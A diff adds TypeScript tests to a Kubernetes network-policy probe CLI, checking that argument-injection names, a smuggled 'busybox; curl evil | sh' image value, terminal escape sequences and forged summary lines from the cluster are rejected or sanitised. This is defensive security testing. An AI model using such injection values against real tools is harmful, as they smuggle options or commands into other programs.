@@ -9,7 +9,7 @@ import { probeExitCode } from '../../src/probe/probe-report';
 import { kubectlExecutor } from '../../src/probe/kubectl-executor';
 import { runProbes } from '../../src/probe/probe-runner';
 import { netpol } from '../cli/run-netpol';
-import { FakeClock } from './support/fake-clock';
+import { FakeClock, ManualClock } from './support/fake-clock';
 import { FakeKubectl } from './support/fake-kubectl';
 import { enforced, notEnforced, probePods as podsOf, RUN_ID, SHOP_PODS, shopResponses as responses } from './support/shop-cluster';
 import { loadManifests } from '../../src/io/manifest-loader';
@@ -69,8 +69,10 @@ function expectEverythingDeleted(): void {
   const expected = applied.filter((o: any) => o.kind === 'Job').map((o: any) => `${o.metadata.namespace}/${o.metadata.name}`);
   expect(deleted.sort()).toEqual(expected.sort());
   expect(jobDeletes.every(d => args(d).includes('--ignore-not-found'))).toBe(true);
-  const last = args(deletes[deletes.length - 1]);
-  expect(last).toEqual(['delete', 'namespace', '--ignore-not-found', '--wait=false', '--', 'netpol-probe']);
+  if (applied.some((o: any) => o.kind === 'Namespace')) {
+    const last = args(deletes[deletes.length - 1]);
+    expect(last).toEqual(['delete', 'namespace', '--ignore-not-found', '--wait=false', '--', 'netpol-probe']);
+  }
 }
 
 async function probeRun(extra: string[] = []) {
@@ -229,6 +231,149 @@ describe('netpol probe run against a fake kubectl', () => {
   });
 });
 
+/** Every argument of every kubectl call: a fixed word or flag, a `--flag=value` of a checked value, or a name after `--`. */
+function expectSafeArgv(calls: { args: string[] }[]): void {
+  const FIXED = new Set(['get', 'pods', 'service', 'namespace', 'jobs', 'events', 'apply', 'delete', 'job', '-f', '-', '-o', 'json', 'name',
+    '--ignore-not-found', '--wait=false', '--cascade=background', '--field-selector=involvedObject.kind=Job,reason=FailedCreate']);
+  const NAME = /^[a-z0-9]([-a-z0-9.]*[a-z0-9])?$/;
+  for (const { args } of calls) {
+    const dash = args.indexOf('--');
+    const flags = dash < 0 ? args : args.slice(0, dash);
+    for (const a of flags) expect(FIXED.has(a) || /^--(context|namespace|selector)=[^\s]+$/.test(a) ? 'ok' : a).toBe('ok');
+    for (const a of dash < 0 ? [] : args.slice(dash + 1)) expect(a).toMatch(NAME);
+  }
+}
+
+describe('hostile input never reaches kubectl as an option', () => {
+  test('a whole run passes kubectl only fixed words, `--flag=value` and names after `--`', async () => {
+    fake.respond(responses(podsOf(plan, enforced)));
+    const out = await probeRun(['--context', 'kind-test']);
+    expect(out.code).toBe(0);
+    expect(fake.calls().length).toBeGreaterThan(5);
+    expectSafeArgv(fake.calls());
+  });
+
+  const deployment = (namespace: string) => ({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'web', namespace },
+    spec: { selector: { matchLabels: { app: 'web' } }, template: { metadata: { labels: { app: 'web' } }, spec: { containers: [{ name: 'c', image: 'i', ports: [{ containerPort: 80 }] }] } } } });
+  const client = { ...deployment('shop'), metadata: { name: 'client', namespace: 'shop' } };
+  test.each([
+    ['a Service named --kubeconfig=./evil.kubeconfig', [deployment('shop'), client, { apiVersion: 'v1', kind: 'Service', metadata: { name: '--kubeconfig=./evil.kubeconfig', namespace: 'shop' }, spec: { selector: { app: 'web' }, ports: [{ port: 80 }] } }],
+      /--kubeconfig=\.\/evil\.kubeconfig/],
+    ['a Service in namespace -n', [deployment('shop'), client, { apiVersion: 'v1', kind: 'Service', metadata: { name: 'web', namespace: '-n' }, spec: { selector: { app: 'web' }, ports: [{ port: 80 }] } }], /"-n"/],
+    ['a workload in namespace --kubeconfig=x', [deployment('--kubeconfig=x'), { ...client, metadata: { name: 'client', namespace: '--kubeconfig=x' } }], /--kubeconfig=x/],
+  ])('%s: exit 2 with an input error, and kubectl is never called', async (_, objects, message) => {
+    const file = path.join(dir, `hostile-${Math.random().toString(36).slice(2)}.json`);
+    fs.writeFileSync(file, JSON.stringify({ apiVersion: 'v1', kind: 'List', items: objects }));
+    fake.respond(responses(podsOf(plan, enforced)));
+    const out = await netpol(['probe', 'run', file, '--run-id', RUN_ID]);
+    expect(out.code).toBe(2);
+    expect(out.stderr).toMatch(/^netpol probe (run|plan)?:? /);
+    expect(out.stderr).toMatch(message);
+    expect(out.stderr).not.toMatch(/\n\s+at /);
+    expect(fake.calls()).toEqual([]);
+  });
+
+  test.each([
+    [['--context=--kubeconfig=./evil.kubeconfig'], /--context: Invalid value: "--kubeconfig=.\/evil.kubeconfig": must not start with "-"/],
+    [['--context', 'kind\u001b[2J'], /--context: Invalid value: "kind\\u001b\[2J": must not contain control characters/],
+    [['--image', '--privileged'], /image: Invalid value: "--privileged": must be a container image reference/],
+    [['--image', 'busybox; curl evil | sh'], /image: Invalid value: "busybox; curl evil \| sh"/],
+    [['--address', '--kubeconfig=./x/y=10.0.0.1'], /addresses: Invalid key: "--kubeconfig=.\/x\/y"/],
+    [['--address', '__proto__=10.0.0.1'], /addresses: Invalid key: "__proto__": must be <namespace>\/<name>/],
+    [['--address', 'shop/backend=10.0.0.1', '--address', 'shop/backend=10.0.0.2'], /--address: "shop\/backend" is given twice/],
+    [['--kubectl', ''], /--kubectl: Invalid value: ""/],
+    [['--junit', 'a\u0000b'], /--junit: Invalid value: "a\\u0000b": must be a file path without control characters/],
+    [['--deadline', '5'], /deadline: Invalid value: 5: must be more than the connection timeout \(5 s\)/],
+  ])('%j: exit 2 with an input error before any kubectl call', async (args, message) => {
+    fake.respond(responses(podsOf(plan, enforced)));
+    const out = await netpol(['probe', 'run', shop, '--run-id', RUN_ID, ...args]);
+    expect(out.code).toBe(2);
+    expect(out.stderr).toMatch(message);
+    expect(out.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
+    expect(fake.calls()).toEqual([]);
+  });
+});
+
+describe('messages from the cluster are safe to print and to put in JUnit XML', () => {
+  const FORGED = '15 probes: 15 agree, 0 disagree, 0 could not run.';
+  test.each([
+    ['a termination message', { terminated: { exitCode: 1, message: `OTHER: \u001b[2J\u001b]0;pwned\u0007\r${FORGED}\n${FORGED}` } }],
+    ['a waiting message', { waiting: { reason: 'ImagePullBackOff', message: `back-off\n${FORGED}\u001b[31m\u2028\u202e` } }],
+    ['a pod failure', { terminated: undefined, waiting: undefined }],
+  ] as [string, any][])('%s with terminal escapes and a forged summary line', async (_, state) => {
+    const first = plan.probes[0];
+    const pods = JSON.parse(podsOf(plan, p => (p.id === first.id ? state : enforced(p))));
+    if (state.terminated === undefined && state.waiting === undefined) {
+      const pod = pods.items.find((x: any) => x.metadata.labels[PROBE_ID_LABEL] === first.id);
+      pod.status = { phase: 'Failed', reason: `Evicted\u001b[2J\n${FORGED}`, message: `\u009b31m\n${FORGED}` };
+    }
+    fake.respond(responses(JSON.stringify(pods), [{ when: 'delete job --namespace=shop', stderr: `error: \u001b]0;pwned\u0007\n${FORGED}\n`, code: 1 }]));
+    const junit = path.join(dir, 'hostile.xml');
+    const out = await probeRun(['--junit', junit]);
+    expect(out.code).toBe(4);
+    for (const text of [out.stdout, out.stderr]) {
+      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
+      expect(text.split('\n').filter(l => /^\d+ probes: /.test(l))).toEqual(text === out.stdout ? [`${plan.probes.length} probes: ${plan.probes.length - 1} agree, 0 disagree, 1 could not run.`] : []);
+    }
+    expect(out.stdout).toMatch(/\\u001b|\\u009b/);
+    expect(out.stderr).toMatch(/delete what it left with: kubectl delete job --namespace=shop --selector=netpol.cdk8s.io\/probe-run=t1/);
+    const xml = fs.readFileSync(junit, 'utf8');
+    expect(xml).not.toMatch(/[^\t\n\r\u0020-\u007e\u00a0-\ud7ff\ue000-\ufffd]/u);
+    expect(xml.match(/<testcase /g)).toHaveLength(plan.probes.length);
+  });
+
+  test('U+FFFF, U+FFFE, a NUL and a lone surrogate from the cluster leave the JUnit XML valid', async () => {
+    const first = plan.probes[0];
+    fake.respond(responses(podsOf(plan, p => (p.id === first.id ? { waiting: { reason: 'ErrImagePull', message: 'a\uffffb\ufffec\u0000d\ud800e\u0085f<g>&' } } : enforced(p)))));
+    const junit = path.join(dir, 'ffff.xml');
+    const out = await probeRun(['--junit', junit]);
+    expect(out.code).toBe(4);
+    const xml = fs.readFileSync(junit, 'utf8');
+    expect(xml).not.toMatch(/[^\t\n\r\u0020-\u007e\u00a0-\ud7ff\ue000-\ufffd]/u);
+    expect(xml).toContain('a\\uffffb\\ufffec\\u0000d\\ud800e\\u0085f&lt;g&gt;&amp;');
+  });
+});
+
+describe('a kubectl that hangs or floods', () => {
+  test('a poll that never returns is killed at its deadline; the run ends and deletes what it applied', async () => {
+    fake.respond(responses(podsOf(plan, enforced), [{ when: 'get pods --namespace=shop --selector=', hang: true }]));
+    const killer = new ManualClock();
+    let finished = false;
+    const promise = runProbes(plan, { executor: kubectlExecutor({ clock: killer }), runId: RUN_ID, pollIntervalMs: 2000, deadlineSeconds: 10, clock: new FakeClock() })
+      .finally(() => { finished = true; });
+    // each hung call waits on the killer's clock: once the fake has recorded it (calls are
+    // sequential, so it is the only call in flight), its deadline comes
+    let killed = 0;
+    while (!finished) {
+      await new Promise(r => setTimeout(r, 20));
+      const hung = fake.calls().filter(c => c.args.join(' ').includes('get pods --namespace=shop --selector=')).length;
+      if (hung > killed) {
+        expect(killer.pending()).toHaveLength(1);
+        killer.fire();
+        killed = hung;
+      }
+    }
+    const run = await promise;
+    // one line per namespace polled, however often it hung (the deadline it was given shrinks as the run's nears)
+    expect(run.errors).toEqual([
+      expect.stringMatching(/^kubectl get pods --namespace=shop --selector=\S+ -o json: did not finish within 10 s: killed \(6 times\)$/),
+    ]);
+    const inShop = run.results.filter(r => r.probe.sourceNamespace === 'shop');
+    expect(inShop.map(r => r.detail)).toEqual(inShop.map(r => expect.stringMatching(new RegExp(`^Job netpol-probe-t1-${r.probe.id} is not in the cluster any more`))));
+    expect(run.results.filter(r => r.probe.sourceNamespace === 'netpol-probe').every(r => r.agrees === true)).toBe(true);
+    expectEverythingDeleted();
+  });
+
+  test('a pod lookup printing more than the bound is killed and reported; the run goes on and cleans up', async () => {
+    fake.respond(responses(podsOf(plan, enforced), [{ when: 'get pods --namespace=shop -o json', stdout: 'x'.repeat(1024), repeat: 200, hang: true }]));
+    const run = await runProbes(plan, { executor: kubectlExecutor({ maxOutputBytes: 64 * 1024 }), runId: RUN_ID, pollIntervalMs: 10, deadlineSeconds: 10, clock: new FakeClock() });
+    expect(run.errors).toEqual(['kubectl get pods --namespace=shop -o json: printed more than 64 KiB on standard output: killed (the output is bounded)']);
+    expect(run.results.filter(r => r.probe.to === 'shop/backend').every(r => /the pods of namespace shop could not be read/.test(r.detail))).toBe(true);
+    expect(run.results.filter(r => r.probe.to === '169.254.169.254').every(r => r.agrees === true)).toBe(true);
+    expectEverythingDeleted();
+  });
+});
+
 describe('UDP', () => {
   test('an allowed UDP flow that gets no answer is inconclusive (exit 4), not a disagreement: a silent UDP server looks dropped', async () => {
     const objects = [
@@ -290,5 +435,25 @@ describe('interruption', () => {
     const code = await exited;
     expect({ code, stderr }).toEqual({ code: exitCode, stderr: expect.stringContaining(`${signal}: stopping and deleting the probe objects`) });
     expectEverythingDeleted();
+  }, 90_000);
+
+  test('SIGINT while a kubectl call hangs kills it, deletes what was applied and exits 130', async () => {
+    fake.respond(responses(podsOf(plan, enforced), [{ when: 'get pods --namespace=shop --selector=', hang: true }]));
+    const child = spawn(process.execPath, ['-r', 'ts-node/register/transpile-only', path.join(ROOT, 'src/cli/main.ts'),
+      'probe', 'run', shop, '--run-id', RUN_ID, '--poll-interval', '50', '--deadline', '600'], { cwd: ROOT, env: process.env, stdio: ['ignore', 'pipe', 'pipe'] });
+    let stderr = '';
+    child.stderr.on('data', d => { stderr += String(d); });
+    const exited = new Promise<number | null>(resolve => child.on('exit', code => resolve(code)));
+    const hung = () => fake.calls().find(c => c.args.join(' ').includes('get pods --namespace=shop --selector='));
+    const deadline = Date.now() + 60_000;
+    while (!hung() && Date.now() < deadline) await new Promise(r => setTimeout(r, 50));
+    child.kill('SIGINT');
+    const code = await exited;
+    expect({ code, stderr }).toEqual({ code: 130, stderr: expect.stringContaining('SIGINT: stopping and deleting the probe objects') });
+    expectEverythingDeleted();
+    // the hung kubectl is gone (reaped once its parent has exited: allow it a moment)
+    const alive = () => { try { process.kill(hung()!.pid, 0); return true; } catch { return false; } };
+    for (let i = 0; i < 250 && alive(); i++) await new Promise(r => setTimeout(r, 20));
+    expect(alive()).toBe(false);
   }, 90_000);
 });
